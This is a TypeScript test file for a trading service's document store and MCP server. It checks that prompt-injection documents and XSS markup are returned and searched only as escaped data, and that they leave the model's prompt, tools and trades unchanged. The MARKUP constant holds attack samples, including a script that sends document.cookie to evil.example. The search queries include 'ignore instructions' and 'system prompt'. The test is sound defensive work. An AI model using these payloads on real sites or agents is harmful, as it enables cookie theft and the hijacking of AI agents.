import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { injections } from '../corpus/injections.ts';
import { connectOptions, type Revision, revisions } from '../support/mcp-desk.ts';
import { addressesOf, Mcp2Desk, trendTrade } from '../support/mcp2-desk.ts';
import { type ModelServer, startModelServer } from '../support/obedient-model.ts';
import { ServiceProcess } from '../support/service-process.ts';

const MARKUP = {
  script: '<script>fetch("https://evil.example/?k=" + document.cookie)</script> trailing stop',
  image: 'A trailing stop <img src=x onerror="alert(1)"> & more',
  'forged mark': 'A </mark><mark onmouseover=alert(1)>trailing stop</mark>',
  link: '[trailing stop](javascript:alert(1)) and <a href="javascript:alert(1)">more</a>',
};

const FORMATS = ['markdown', 'text', 'html'] as const;

/** Every attempt as a document of each format, and markup besides. */
const attacks = [
  ...injections.map(({ text }, i) => ({ id: `attack-${i}`, content: `Note ${i}. ${text}`, format: FORMATS[i % 3]! })),
  ...Object.values(MARKUP).flatMap((content, i) =>
    FORMATS.map((format) => ({ id: `markup-${i}-${format}`, content, format })),
  ),
];

let folder: string;
let up: ServiceProcess;
let desk: Mcp2Desk;
let model: ModelServer;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'pulse-attack-'));
  model = await startModelServer(() => ({
    text: JSON.stringify({ signal: 'RSI is 63.2.', risk: 'Within the limit.', action: 'Hold.', journal: 'Noted.' }),
  }));
  up = new ServiceProcess(['up', '--feed', 'none'], {
    PULSE_DATA_DIR: folder,
    MCP2_PORT: '0',
    OPENAI_BASE_URL: model.url,
    GUIDANCE_REUSE_SECONDS: '0',
  });
  const [, address = ''] = await addressesOf(up, 2);
  desk = new Mcp2Desk(address);
}, 60_000);
afterAll(async () => {
  await up.end('SIGTERM');
  await model.close();
  await rm(folder, { recursive: true, force: true });
});

/** What is said, without what differs from call to call. */
async function guidance(name: string): Promise<unknown> {
  const { status, body } = await desk.post(`/llm/${name}`, {
    payload: trendTrade(),
    questions: ['Is risk within limits?'],
  });
  expect(status).toBe(200);
  const { id: _, latency_ms: __, ...meta } = body.meta;
  return { ...body, meta };
}
/** What the model was last told; the delimiter is another each time. */
const told = () => JSON.stringify(model.calls.at(-1)).replace(/material-[0-9a-f]{32}/g, 'material');
const writes = async () => [
  (await desk.get('/trades/recent')).body.trades,
  (await desk.get('/documents?limit=500')).body.documents.length,
];

const QUERIES = [
  'note',
  'risk 99',
  'ignore instructions',
  'system prompt',
  'trailing stop',
  '"trailing stop" more',
  'outlook',
  '<script>',
];

test('documents come back as they were given, and change nothing that guidance says or a model is told', {
  timeout: 120_000,
}, async () => {
  const before = [await guidance('simple'), told(), await guidance('whisperer'), told()];
  expect(before[0]).toMatchObject({ meta: { provider: 'openai', stub: false } });
  for (const attack of attacks) {
    const { status, body } = await desk.post('/documents', attack);
    expect([attack.content, status, body.change]).toEqual([attack.content, 200, 'added']);
  }
  for (const { id, content } of attacks) {
    const { headers, body } = await desk.get(`/documents/${id}`);
    expect(body).toMatchObject({ id, content });
    expect(headers.get('content-type')).toMatch(/^application\/json/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  }
  const wrote = await writes();
  for (const query of QUERIES) await desk.get(`/search_docs?limit=100&query=${encodeURIComponent(query)}`);
  expect([await guidance('simple'), told(), await guidance('whisperer'), told()]).toEqual(before);
  expect(model.calls.map(({ tools }) => tools)).toEqual(model.calls.map(() => undefined));
  expect(await writes()).toEqual(wrote);
  expect(wrote).toEqual([[], attacks.length]);
});

const unescaped = (html: string): string =>
  html.replace(
    /&(lt|gt|quot|#39|amp);/g,
    (_, name: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[name]!,
  );

/** A snippet is text of its passage with nothing in it that a browser would run. */
function expectHarmless({ id, snippet, content }: { id: string; snippet: string; content: string }): void {
  const html = snippet.replace(/<mark>([^<>]*)<\/mark>/g, '$1');
  expect(html, id).not.toMatch(/[<>"']/);
  expect(html, id).not.toMatch(/&(?!(?:lt|gt|quot|#39|amp);)/);
  const shown = unescaped(html).replace(/^… | …$/g, '');
  expect(content.replace(/\s+/g, ' '), id).toContain(shown);
}

test('snippets are escaped', async () => {
  const seen = new Set<string>();
  for (const query of QUERIES) {
    const { status, body } = await desk.get(`/search_docs?limit=100&query=${encodeURIComponent(query)}`);
    expect(status).toBe(200);
    for (const hit of body.results) {
      expectHarmless(hit);
      seen.add(hit.id);
    }
  }
  for (const { id } of attacks.filter((each) => each.id.startsWith('attack'))) expect(seen).toContain(id);
});

describe.each(Object.keys(revisions) as Revision[])('an MCP client of %s', (revision) => {
  let client: Client;
  beforeAll(async () => {
    client = new Client({ name: 'test', version: '1' }, connectOptions(revision));
    await client.connect(new StreamableHTTPClientTransport(new URL('/mcp', desk.address)));
  });
  afterAll(() => client.close());
  const call = async (name: string, args: Record<string, unknown>) => {
    const { isError, structuredContent } = await client.callTool({ name, arguments: args });
    expect(isError ?? false).toBe(false);
    // biome-ignore lint/suspicious/noExplicitAny: tests look into whatever came
    return structuredContent as any;
  };

  test('finds them and fetches them as data; its tools stay what they were', { timeout: 60_000 }, async () => {
    const tools = await client.listTools();
    for (const query of QUERIES) {
      for (const { id, title, url } of (await call('search', { query })).results)
        for (const text of [id, title, url]) expect(text).toMatch(/\S/);
      for (const hit of (await call('search_docs', { query, limit: 50 })).results) expectHarmless(hit);
    }
    for (const { id, content } of attacks) expect(await call('fetch', { id })).toMatchObject({ id, text: content });
    expect(await client.listTools()).toEqual(tools);
    expect(await writes()).toEqual([[], attacks.length]);
  });
});
